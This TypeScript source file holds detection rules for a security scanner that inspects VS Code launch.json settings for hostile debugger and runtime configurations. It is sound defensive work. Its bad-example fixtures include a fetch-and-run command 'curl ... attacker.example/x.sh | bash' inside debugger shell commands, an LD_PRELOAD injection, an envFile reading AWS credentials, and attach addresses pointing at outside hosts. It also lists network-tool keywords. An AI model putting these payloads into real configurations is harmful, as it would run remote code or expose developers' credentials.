import { isCollectionPoint, isRawPublicAddress } from './hosts.ts';
import { sensitivePath } from './paths.ts';
import type { RowContext, RowMatch, SettingValue } from './setting-row.ts';
import { hostileUrl, isConventionalToolPath, isQuietFolder, isRepoRelative, isWebUrl, urlReach } from './values.ts';
import { envDocuments, environmentVariable, ENV_EXAMPLES } from './vscode-terminal.ts';
import { asMember, HOSTILE, textOf, textsOf } from './vscode-row.ts';
import type { VscodeRow } from './vscode-row.ts';

const LAUNCH_DOC = 'https://code.visualstudio.com/docs/debugtest/debugging-configuration';
const DOWNLOAD = 'curl -s https://attacker.example/x.sh | bash';

/** A key of a configuration, in its base form and in each system's own. */
function keys(...names: readonly string[]): readonly string[] {
  return names.flatMap((name) => [`configurations[].${name}`, `configurations[].{windows,linux,osx}.${name}`]);
}

const launch = (rest: object): unknown => ({ document: { version: '0.2.0', configurations: [{ type: 'node', request: 'launch', name: 'app', ...rest }] } });

/** The configuration around a program when arguments belong to it, else the value alone. */
function commandScope(value: SettingValue): SettingValue {
  return value.parent?.get('runtimeArgs') || value.parent?.get('args') ? (value.parent ?? value) : value;
}

/** Commands that a debugger is given: cppdbg, CodeLLDB and lldb-dap, Cortex-Debug, Native Debug. */
const DEBUGGER_COMMANDS = [
  'setupCommands[].text', 'customLaunchSetupCommands[].text', 'postRemoteConnectCommands[].text', 'autorun[]',
  '{initCommands,preRunCommands,postRunCommands,launchCommands,attachCommands,targetCreateCommands,processCreateCommands,preTerminateCommands,stopCommands,exitCommands,terminateCommands}[]',
  '{preLaunchCommands,postLaunchCommands,preAttachCommands,postAttachCommands,overrideLaunchCommands,overrideAttachCommands,preRestartCommands,postRestartCommands,overrideRestartCommands,preResetCommands,postResetCommands,overrideResetCommands}[]',
] as const;

const PROGRAM = /\.(?:[cm]?[jt]sx?|py|rb|pl|php|sh|bash|ps1|exe)$/i;
const HIDDEN = /(?:^|\/)\.(?:vscode|github|git|cursor|claude|gemini|codex|windsurf|idea)\//;

/** A folder of settings of editors and agents; assets may hold what a browser runs. */
function isHiddenFolder(path: string): boolean {
  return HIDDEN.test(path.replaceAll('\\', '/'));
}

/** Debugger commands that reach a shell: `shell x`, `platform shell x`, `!x`. */
const DEBUGGER_SHELL = /^\s{0,20}(?:-exec\s{1,5}|-interpreter-exec\s{1,5}\w{1,20}\s{1,5}["']?)?(?:platform\s{1,5}shell|shell|!|command script|script)\s{0,5}\S/;
const NETWORK_WORD = /(?:^|[\s;&|("'`$])(?:curl|wget|iwr|irm|invoke-webrequest|invoke-restmethod|ncat|nc|socat|scp|ftp|tftp|aria2c)(?:\.exe)?\s/i;

function debuggerCommand(value: SettingValue, context: RowContext): boolean | RowMatch {
  const text = textOf(value);
  if (context.commands(value).hostile) return { preset: 'recommended', data: { what: HOSTILE } };
  if (!DEBUGGER_SHELL.test(text)) return false;
  return { preset: NETWORK_WORD.test(text) ? 'recommended' : 'strict', data: { what: 'a shell command' } };
}

/** `launch.json`, or `launch` of a workspace (A8). */
export const VSCODE_LAUNCH: readonly VscodeRow[] = [
  {
    id: 'A8-2',
    key: keys('{runtimeExecutable,python,pythonPath,miDebuggerPath,debugServerPath,dlvToolPath,command}', 'pipeTransport.pipeProgram', 'program'),
    when: (value, context) => context.commands(String(value.key).endsWith('runtimeExecutable') ? commandScope(value) : value).hostile,
    report: 'launchCommand',
    preset: 'recommended',
    cwe: [78],
    source: LAUNCH_DOC,
    data: { what: HOSTILE },
    bad: [launch({ runtimeExecutable: 'bash', runtimeArgs: ['-c', DOWNLOAD] }), launch({ type: 'node-terminal', command: DOWNLOAD })],
    good: [launch({ runtimeExecutable: 'npm', runtimeArgs: ['run', 'dev'] }), launch({ type: 'node-terminal', command: 'npm start' }), launch({ runtimeExecutable: '${workspaceFolder}/node_modules/.bin/tsx', program: '${workspaceFolder}/src/main.ts' })],
  },
  {
    id: 'A8-2',
    key: keys('{runtimeExecutable,python,pythonPath,miDebuggerPath,debugServerPath,dlvToolPath,gdbPath,gdbpath,lldbmipath,serverpath,debuggerPath}', 'pipeTransport.pipeProgram'),
    when: (value) => {
      const path = textOf(value);
      if (!isRepoRelative(path)) return false;
      return isQuietFolder(path) ? { preset: 'recommended' } : !isConventionalToolPath(path) && { preset: 'strict' };
    },
    report: 'launchSetting',
    preset: 'recommended',
    cwe: [426],
    source: LAUNCH_DOC,
    data: { effect: 'makes the debugger run a program of this repository' },
    bad: [launch({ runtimeExecutable: './.vscode/node' }), launch({ type: 'cortex-debug', gdbPath: './.cache/gdb' }), launch({ miDebuggerPath: '${workspaceFolder}/gdb.sh' })],
    good: [launch({ runtimeExecutable: '${workspaceFolder}/node_modules/.bin/nodemon' }), launch({ runtimeExecutable: 'yarn' }), launch({ python: '${workspaceFolder}/.venv/bin/python' }), launch({ program: '${workspaceFolder}/build/app' })],
  },
  {
    id: 'A8-2',
    key: keys('{program,script}', '{runtimeArgs,args}[]'),
    when: (value) => {
      const path = textOf(value).replace(/^--?[a-z-]{1,30}=/, '');
      return PROGRAM.test(path) && (isRepoRelative(path) || path.startsWith('.')) && isHiddenFolder(path);
    },
    report: 'launchSetting',
    preset: 'strict',
    cwe: [426],
    source: LAUNCH_DOC,
    data: { effect: 'runs a program from a folder of settings' },
    bad: [launch({ program: '${workspaceFolder}/.vscode/x.js' }), launch({ runtimeArgs: ['--require', './.cursor/x.cjs'] }), launch({ runtimeArgs: ['--import=./.claude/x.mjs'] })],
    good: [launch({ program: '${workspaceFolder}/public/index.js' }), launch({ runtimeArgs: ['-r', 'ts-node/register'], args: ['--config', '.vscode/launch.yml'] }), launch({ program: '${file}' })],
  },
  {
    id: 'A8-2',
    key: keys(...DEBUGGER_COMMANDS),
    when: debuggerCommand,
    report: 'launchCommand',
    preset: 'recommended',
    cwe: [78],
    source: LAUNCH_DOC,
    bad: [launch({ initCommands: [`platform shell ${DOWNLOAD}`] }), launch({ setupCommands: [{ text: 'shell wget https://example.com/x -O /tmp/x' }] }), launch({ preRunCommands: ['shell ls'] }), launch({ setupCommands: [{ text: `-interpreter-exec console "shell ${DOWNLOAD}"` }] }), launch({ preLaunchCommands: [`shell ${DOWNLOAD}`] })],
    good: [launch({ preLaunchCommands: ['monitor reset halt', 'load'], setupCommands: [{ text: '-interpreter-exec console "set pagination off"' }] }), launch({ setupCommands: [{ text: '-enable-pretty-printing' }], initCommands: ['settings set target.x 1', 'command alias a b'] })],
  },
  {
    id: 'A8-3',
    key: keys('env.*', 'environment.*'),
    when: environmentVariable,
    report: 'variable',
    preset: 'recommended',
    cwe: [426],
    source: LAUNCH_DOC,
    bad: envDocuments(ENV_EXAMPLES.bad, (env) => ({ configurations: [{ name: 'x', env }] })),
    good: [...envDocuments(ENV_EXAMPLES.good, (env) => ({ configurations: [{ name: 'x', env }] })), launch({ env: { NODE_OPTIONS: '--max-http-header-size=65536' } })],
  },
  {
    id: 'A8-3',
    key: keys('environment[]'),
    when: (value, context) => {
      const name = textOf(value.get('name'));
      const setting = value.get('value');
      if (name === '' || !setting) return false;
      return environmentVariable(asMember(setting, name), context);
    },
    report: 'variable',
    preset: 'recommended',
    cwe: [426],
    source: LAUNCH_DOC,
    bad: [launch({ environment: [{ name: 'LD_PRELOAD', value: './x.so' }] })],
    good: [launch({ environment: [{ name: 'HOME', value: '/tmp' }, {}] })],
  },
  {
    id: 'A8-3',
    key: keys('envFile'),
    when: (value) => textsOf(value).some((path) => sensitivePath(path) !== null),
    report: 'launchSetting',
    preset: 'recommended',
    cwe: [526],
    source: LAUNCH_DOC,
    data: { effect: 'reads credentials of the user into the program' },
    bad: [launch({ envFile: '${env:HOME}/.aws/credentials' })],
    good: [launch({ envFile: '${workspaceFolder}/.env' }), launch({ envFile: '.env.local' })],
  },
  {
    id: 'A8-4',
    key: keys('runtimeArgs[]'),
    when: (value) => /^(?:--disable-web-security|--no-sandbox|--ignore-certificate-errors)$/.test(textOf(value)),
    report: 'launchSetting',
    preset: 'strict',
    cwe: [1188],
    source: LAUNCH_DOC,
    data: { effect: 'starts a browser without its protections' },
    bad: [launch({ type: 'chrome', runtimeArgs: ['--disable-web-security'] })],
    good: [launch({ type: 'chrome', runtimeArgs: ['--headless'] })],
  },
  {
    id: 'A8-5',
    key: keys('serverReadyAction.uriFormat'),
    when: (value) => isWebUrl(textOf(value)) && urlReach(textOf(value)) === 'outside',
    report: 'launchSetting',
    preset: 'strict',
    cwe: [601],
    source: LAUNCH_DOC,
    data: { effect: 'opens an outside page when the program starts' },
    bad: [launch({ serverReadyAction: { uriFormat: 'https://attacker.dev/%s' } })],
    good: [launch({ serverReadyAction: { uriFormat: 'http://localhost:%s' } }), launch({ serverReadyAction: { uriFormat: 'https://localhost:%s' } })],
  },
  {
    id: 'A8-6',
    key: keys('{url,webRoot}'),
    when: (value) => hostileUrl(textOf(value)) !== null,
    report: 'launchSetting',
    preset: 'recommended',
    cwe: [200],
    source: LAUNCH_DOC,
    data: { effect: 'opens a page of a collection point' },
    bad: [launch({ type: 'chrome', url: 'https://webhook.site/abc' })],
    good: [launch({ type: 'chrome', url: 'http://localhost:3000', webRoot: '${workspaceFolder}/src' })],
  },
  {
    id: 'A8-6',
    key: keys('{address,host,hostName,remoteHost,miDebuggerServerAddress,debugServer}', 'connect.host'),
    when: (value) => {
      const host = /^(?:(?:tcp|http|ws)s?:(?:\/\/)?)?([\w.-]{1,253})(?::\d{1,5})?\/?$/i.exec(textOf(value))?.[1] ?? '';
      return isRawPublicAddress(host) || isCollectionPoint(host);
    },
    report: 'launchSetting',
    preset: 'recommended',
    cwe: [200, 829],
    source: LAUNCH_DOC,
    data: { effect: 'connects the debugger to a machine of somebody else' },
    bad: [launch({ request: 'attach', address: '203.0.113.7', port: 9229 }), launch({ type: 'python', request: 'attach', connect: { host: 'x.ngrok-free.app', port: 5678 } }), launch({ type: 'cppdbg', miDebuggerServerAddress: '203.0.113.7:1234' })],
    good: [launch({ request: 'attach', address: 'localhost', port: 9229 }), launch({ request: 'attach', address: '192.168.1.20' }), launch({ type: 'python', connect: { host: '127.0.0.1', port: 5678 } }), launch({ miDebuggerServerAddress: 'localhost:1234', debugServer: 4711 }), launch({ address: '${input:host}' })],
  },
];
